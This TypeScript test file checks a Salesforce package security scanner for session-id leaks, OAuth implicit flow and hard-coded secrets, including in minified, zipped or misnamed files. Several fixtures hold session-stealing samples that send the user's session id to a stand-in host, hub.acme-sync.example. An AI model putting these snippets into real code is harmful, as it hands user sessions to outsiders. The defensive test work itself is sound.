/* eslint-disable camelcase -- fields of Salesforce */
import { strToU8, zipSync } from 'fflate';
import {
  aura,
  cls,
  itChecks,
  lwc,
  NOT_PASSED,
  OK,
  page,
  resource,
  xml,
  type Files,
  type SmallPackage,
} from '../support/smallPackages.js';
import { canary } from '../support/secrets.js';

const SESSION = 'no-session-id-for-metadata-api';
const P = 'force-app/main/default';
const THIRD_PARTY_SCRIPT = `fetch('https://hub.acme-sync.example/v1', { method: 'POST', body: JSON.stringify({ sid: sforce.connection.sessionId }) });\n`;
const IMPLICIT = `window.location = 'https://login.salesforce.com/services/oauth2/authorize?response_type=token&client_id=' + key;\n`;
const SENDER = `public class Sender {
    public void go() {
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://hub.acme-sync.example');
        req.setBody(UserInfo.getSessionId());
        new Http().send(req);
    }
}`;
/** One long line, as a bundler writes it. */
const minified = (code: string): string =>
  `!function(){"use strict";${'var a=function(b){return b+1};'.repeat(900)}${code.trim()}}();`;
const projectAt = (path: string): object => ({
  packageDirectories: [{ path, default: true, package: 'X', versionNumber: '1.0.0.NEXT' }],
  namespace: 'acme',
  sourceApiVersion: '62.0',
});
const moved = (files: Files, to: string): Files =>
  Object.fromEntries(Object.entries(files).map(([path, text]) => [path.replace('force-app/main/default', to), text]));

const packages: SmallPackage[] = [
  {
    title: 'a package directory called dist',
    control: SESSION,
    files: moved(cls('Sender', SENDER), 'dist'),
    project: projectAt('dist'),
    verdict: 'fail',
    kind: 'violation',
    names: ['Sender'],
  },
  {
    title: 'a package directory called tests',
    control: SESSION,
    files: moved(cls('Sender', SENDER), 'tests/main/default'),
    project: projectAt('tests'),
    verdict: 'fail',
    kind: 'violation',
    names: ['Sender'],
  },
  {
    title: 'a folder called examples inside the package directory',
    control: SESSION,
    files: moved(cls('Sender', SENDER), 'force-app/examples'),
    verdict: 'fail',
    kind: 'violation',
    names: ['Sender'],
  },
  {
    title: 'a class called …Test without the annotation',
    control: SESSION,
    files: cls('ConnectionTest', SENDER.replace('Sender', 'ConnectionTest')),
    verdict: 'fail',
    kind: 'violation',
    names: ['ConnectionTest'],
  },
  {
    title: 'a tests folder inside a static resource',
    control: SESSION,
    files: resource('app/tests/boot.js', THIRD_PARTY_SCRIPT, 'application/zip'),
    verdict: NOT_PASSED,
  },
  {
    title: 'node_modules inside a static resource',
    control: 'no-implicit-flow',
    files: resource('app/node_modules/acme-login/index.js', `const key = 'k';\n${IMPLICIT}`, 'application/zip'),
    verdict: NOT_PASSED,
  },
  {
    title: 'a module with the extension mjs inside a static resource',
    control: 'no-implicit-flow',
    files: resource('app/login.mjs', `export function login(key) {\n  ${IMPLICIT}}`, 'application/zip'),
    verdict: 'fail',
    kind: 'violation',
    at: ['app/login.mjs:2'],
  },
  {
    title: 'an archive as a static resource',
    control: SESSION,
    files: resource('app.resource', zipSync({ 'js/app.4f1c.js': strToU8(THIRD_PARTY_SCRIPT) }), 'application/zip'),
    verdict: 'fail',
    kind: 'violation',
  },
  {
    title: 'a page of a static resource with an inline script',
    control: 'no-implicit-flow',
    files: resource(
      'spa/index.html',
      `<!doctype html>\n<script>\nvar key = 'k';\n${IMPLICIT}</script>`,
      'application/zip'
    ),
    verdict: 'fail',
    kind: 'violation',
    at: ['spa/index.html:4'],
  },
  {
    title: 'an own file named like a library',
    control: SESSION,
    files: resource('jquery.js', THIRD_PARTY_SCRIPT),
    verdict: 'fail',
    kind: 'violation',
  },
  {
    title: 'own code after the banner of a library',
    control: SESSION,
    files: resource(
      'bundle.js',
      `/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n${minified('window.$=1')}\n/* app */\n${THIRD_PARTY_SCRIPT}`
    ),
    verdict: NOT_PASSED,
  },
  {
    title: 'a minified bundle that starts the implicit flow',
    control: 'no-implicit-flow',
    files: resource('app.min.js', minified(IMPLICIT)),
    verdict: NOT_PASSED,
  },
  {
    title: 'a minified bundle that reads the session id of the toolkit',
    control: SESSION,
    files: resource('app.min.js', minified(THIRD_PARTY_SCRIPT)),
    verdict: NOT_PASSED,
  },
  {
    title: 'a minified bundle that takes the session id of the container',
    control: SESSION,
    files: resource('chart.js', minified(`var t=LCC.getRESTAPISessionKey();fetch(u+"/ingest",{headers:{a:t}})`)),
    verdict: NOT_PASSED,
  },
  {
    title: 'trap: a minified chart library without a word about Salesforce',
    control: SESSION,
    files: resource('chart.min.js', minified('window.Chart=function(e){this.session=e.session};')),
    verdict: OK,
  },
  {
    title: 'a bundle with a secret',
    control: 'no-secrets-in-source',
    files: resource('app.min.js', minified(`var cfg={client_secret:"${canary.consumerSecret}"};`)),
    verdict: 'fail',
    kind: 'violation',
  },
  {
    title: 'a class whose body is missing',
    control: SESSION,
    files: xml('classes/Lost.cls-meta.xml', 'ApexClass', '<apiVersion>60.0</apiVersion><status>Active</status>'),
    verdict: 'inconclusive',
  },
  {
    title: 'a trigger whose body is missing',
    control: 'no-secrets-in-source',
    files: xml('triggers/Lost.trigger-meta.xml', 'ApexTrigger', '<apiVersion>60.0</apiVersion><status>Active</status>'),
    verdict: 'inconclusive',
  },
  {
    title: 'a Lightning component without its script',
    control: SESSION,
    files: xml(
      'lwc/lost/lost.js-meta.xml',
      'LightningComponentBundle',
      '<apiVersion>60.0</apiVersion><isExposed>true</isExposed>'
    ),
    verdict: 'inconclusive',
  },
  {
    title: 'an Aura component without its markup',
    control: SESSION,
    files: xml('aura/Lost/Lost.cmp-meta.xml', 'AuraDefinitionBundle', '<apiVersion>60.0</apiVersion>'),
    verdict: 'inconclusive',
  },
  {
    title: 'a static resource without its file',
    control: 'no-secrets-in-source',
    files: xml(
      'staticresources/lost.resource-meta.xml',
      'StaticResource',
      '<contentType>application/zip</contentType>'
    ),
    verdict: 'inconclusive',
  },
  {
    title: 'a class that does not parse',
    control: SESSION,
    files: cls('Broken', 'public class Broken { public void go() { String s = UserInfo.getSessionId(; } '),
    verdict: 'inconclusive',
  },
  {
    title: 'trap: a jest test beside a Lightning component',
    control: 'no-secrets-in-source',
    files: {
      ...lwc('card', "import { LightningElement } from 'lwc';\nexport default class Card extends LightningElement {}"),
      [`${P}/lwc/card/__tests__/card.test.js`]: `const client_secret = '${canary.consumerSecret}';\ntest('x', () => {});`,
      '.forceignore': '**/__tests__/**\n',
    },
    verdict: OK,
  },
  {
    title: 'trap: a folder that .forceignore leaves out',
    control: SESSION,
    files: { ...moved(cls('Sender', SENDER), 'force-app/unpackaged'), '.forceignore': 'force-app/unpackaged/**\n' },
    verdict: OK,
  },
  {
    title: 'trap: pictures and style sheets',
    control: SESSION,
    files: {
      ...resource('logo.png', new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 0, 1, 2]), 'image/png'),
      ...resource('theme.css', '.session { color: red } /* tooling metadata sid */', 'text/css'),
    },
    verdict: OK,
  },
  {
    title: 'an Aura renderer that nothing else names',
    control: 'no-implicit-flow',
    files: {
      ...aura('Login', '<aura:component/>'),
      [`${P}/aura/Login/LoginRenderer.js`]: `({ afterRender: function (cmp) { var key = cmp.get('v.key');\n${IMPLICIT}} })`,
    },
    verdict: 'fail',
    kind: 'violation',
    at: ['LoginRenderer.js:2'],
  },
  {
    title: 'a second module of a Lightning component',
    control: 'no-implicit-flow',
    files: {
      ...lwc(
        'login',
        "import { LightningElement } from 'lwc';\nimport { start } from './flow';\nexport default class Login extends LightningElement { connectedCallback() { start('k'); } }"
      ),
      [`${P}/lwc/login/flow.js`]: `export function start(key) {\n  ${IMPLICIT}}`,
    },
    verdict: 'fail',
    kind: 'violation',
    at: ['lwc/login/flow.js:2'],
  },
  {
    title: 'a page that does not close its script',
    control: SESSION,
    files: page(
      'Open',
      "<apex:page>\n<script>\nfetch('https://hub.acme-sync.example/?s={!$Api.Session_ID}');\n</apex:page>"
    ),
    verdict: NOT_PASSED,
  },
];

describe('code that is easily left unread', () => {
  itChecks(packages);
});
